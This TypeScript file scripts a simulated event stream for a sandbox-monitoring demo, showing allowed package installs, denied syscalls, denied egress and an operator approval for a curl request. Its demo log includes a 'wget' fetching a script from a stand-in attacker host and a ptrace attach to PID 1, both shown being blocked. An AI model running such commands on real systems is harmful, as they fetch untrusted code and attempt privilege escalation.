// The demo workload: a `strict`-blueprint sandbox that does allowed work, is denied a syscall, is
// denied egress, and waits on an approval for a blocked `curl`; allowing it lets the curl succeed.
import type { Script, ScriptStep } from './scripted-source.ts';

export const DEMO_APPROVAL_ID = 'ap-1';

const STRICT_RULE = `network_policies:
  approved_example_api:
    endpoints:
      - { host: api.example.com, port: 443 }
    binaries: [{ path: /usr/bin/curl }]`;
const STRICT_DENY_RULE = `network_policies:
  denied_example_api:
    endpoints:
      - { host: api.example.com, port: 443, enforcement: deny }
    binaries: [{ path: /usr/bin/curl }]`;

let auditSeq = 0;
function audit(kind: string, summary: string, afterMs: number): ScriptStep {
  return { afterMs, event: (ts) => ({ type: 'audit', ts, seq: ++auditSeq, kind, summary }) };
}
function log(sandbox: string, line: string, afterMs: number, stream: 'stdout' | 'stderr' | 'system' = 'stdout'): ScriptStep {
  return { afterMs, event: (ts) => ({ type: 'log', ts, sandbox, stream, line }) };
}

export interface DemoOptions {
  /** Seconds the approval waits before failing closed. */
  approvalTimeoutS?: number;
  /** Background loop iterations (each about a second of activity). */
  loopTimes?: number;
}

export function demoScript(options: DemoOptions = {}): Script {
  auditSeq = 0;
  const timeoutMs = (options.approvalTimeoutS ?? 300) * 1000;
  const steps: ScriptStep[] = [
    {
      afterMs: 0,
      event: (ts) => ({ type: 'sandbox_state', ts, sandbox: { name: 'demo', state: 'creating', blueprint: 'strict', policyRevision: 1 } }),
    },
    audit('sandbox.create', 'demo: blueprint strict@1.0.0 policy rev 1', 0),
    {
      afterMs: 150,
      event: (ts) => ({
        type: 'sandbox_state',
        ts,
        sandbox: {
          name: 'demo',
          state: 'running',
          blueprint: 'strict',
          policyRevision: 1,
          startedAt: ts,
          pid: 4242,
          policySummary: ['filesystem: ro /usr /lib /etc/ssl, rw /tmp (private), workdir', 'network: pypi (read-only); unmatched egress: ask, 300s then deny', 'exec: /usr/bin/*; unmatched: ask', 'limits: memory 2GiB, pids 512, nofile 4096'],
          enforcement: { landlock: 'abi 6 (hard_requirement)', seccomp: 'filter 1 + user notify', no_new_privs: 'yes', capabilities: 'none', namespaces: 'user mnt pid net ipc uts cgroup' },
        },
      }),
    },
    log('demo', '[helper] landlock abi 6, seccomp filter 1 (+notify), no_new_privs, caps empty', 0, 'system'),
    { afterMs: 0, event: (ts) => ({ type: 'sandbox_state', ts, sandbox: { name: 'builder', state: 'running', blueprint: 'dev', policyRevision: 3, startedAt: ts - 95_000, pid: 3100 } }) },
    log('demo', '$ python3 -m pip install --user requests', 200),
    { afterMs: 100, event: (ts) => ({ type: 'egress_allowed', ts, sandbox: 'demo', binary: '/usr/bin/python3', host: 'pypi.org', port: 443, rule: 'pypi' }) },
    { afterMs: 50, event: (ts) => ({ type: 'egress_allowed', ts, sandbox: 'demo', binary: '/usr/bin/python3', host: 'files.pythonhosted.org', port: 443, rule: 'pypi' }) },
    log('demo', 'Successfully installed requests-2.32.5', 150),
    { afterMs: 100, event: (ts) => ({ type: 'sandbox_stats', ts, sandbox: 'demo', cpuPercent: 12.5, memoryBytes: 84 * 1024 * 1024 }) },
    log('demo', '$ gdb -p 1', 150),
    { afterMs: 50, event: (ts) => ({ type: 'syscall_denied', ts, sandbox: 'demo', pid: 4301, binary: '/usr/bin/gdb', syscall: 'ptrace', rule: 'baseline' }) },
    log('demo', 'ptrace: Operation not permitted.', 0, 'stderr'),
    audit('syscall.deny', 'demo: /usr/bin/gdb ptrace (baseline)', 0),
    log('demo', '$ wget http://evil.example.net/x.sh', 200),
    { afterMs: 50, event: (ts) => ({ type: 'egress_denied', ts, sandbox: 'demo', binary: '/usr/bin/wget', host: 'evil.example.net', port: 80, rule: 'default-deny', reason: 'no matching network policy' }) },
    { afterMs: 30, event: (ts) => ({ type: 'egress_denied', ts, sandbox: 'demo', binary: '/usr/bin/wget', host: 'evil.example.net', port: 80, rule: 'default-deny', reason: 'no matching network policy' }) },
    log('demo', 'wget: server returned error: HTTP/1.1 403 Forbidden', 0, 'stderr'),
    audit('egress.deny', 'demo: wget -> evil.example.net:80 (default-deny)', 0),
    log('demo', '$ curl -sS https://api.example.com/v1/status', 200),
    {
      afterMs: 50,
      event: (ts) => ({
        type: 'approval_pending',
        ts,
        approval: {
          id: DEMO_APPROVAL_ID,
          sandbox: 'demo',
          kind: 'egress',
          summary: 'curl -> api.example.com:443',
          binary: '/usr/bin/curl',
          target: 'api.example.com:443',
          createdAt: ts,
          timeoutAt: ts + timeoutMs,
          alwaysRule: { allow: STRICT_RULE, deny: STRICT_DENY_RULE },
        },
      }),
    },
    audit('approval.pending', `demo: ${DEMO_APPROVAL_ID} curl -> api.example.com:443`, 0),
    log('demo', 'waiting for operator approval: curl -> api.example.com:443', 0, 'system'),
    { afterMs: 100, event: (ts) => ({ type: 'syscall_denied', ts, sandbox: 'builder', pid: 3177, binary: '/usr/bin/mount', syscall: 'mount', rule: 'baseline' }) },
    { afterMs: 100, event: (ts) => ({ type: 'limit_hit', ts, sandbox: 'builder', limit: 'pids', value: '512' }) },
    { afterMs: 100, event: (ts) => ({ type: 'inference', ts, sandbox: 'builder', backend: 'local-nim', model: 'llama-3.1-8b', decision: 'local-only', latencyMs: 212, tokens: 380 }) },
  ];

  const loopSteps: ScriptStep[] = [
    log('builder', 'make[2]: compiling module…', 500),
    { afterMs: 0, event: (ts) => ({ type: 'sandbox_stats', ts, sandbox: 'builder', cpuPercent: 40 + Math.round(Math.random() * 50), memoryBytes: (300 + Math.round(Math.random() * 100)) * 1024 * 1024 }) },
    { afterMs: 250, event: (ts) => ({ type: 'egress_allowed', ts, sandbox: 'builder', binary: '/usr/bin/git', host: 'github.com', port: 443, rule: 'github' }) },
    { afterMs: 250, event: (ts) => ({ type: 'syscall_denied', ts, sandbox: 'builder', pid: 3177, binary: '/usr/bin/mount', syscall: 'mount', rule: 'baseline' }) },
  ];

  return {
    steps,
    onDecision: {
      [DEMO_APPROVAL_ID]: {
        allow: [
          audit('approval.decided', `demo: ${DEMO_APPROVAL_ID} allowed`, 0),
          { afterMs: 50, event: (ts) => ({ type: 'egress_allowed', ts, sandbox: 'demo', binary: '/usr/bin/curl', host: 'api.example.com', port: 443, rule: 'operator-approval' }) },
          log('demo', '{"status":"ok"}  (curl: HTTP 200)', 50),
          log('demo', 'curl succeeded', 0, 'system'),
        ],
        deny: [
          audit('approval.decided', `demo: ${DEMO_APPROVAL_ID} denied`, 0),
          { afterMs: 50, event: (ts) => ({ type: 'egress_denied', ts, sandbox: 'demo', binary: '/usr/bin/curl', host: 'api.example.com', port: 443, rule: 'operator-deny' }) },
          log('demo', 'curl: (56) CONNECT tunnel failed, response 403', 50, 'stderr'),
        ],
      },
    },
    loop: { steps: loopSteps, times: options.loopTimes ?? 600 },
  };
}
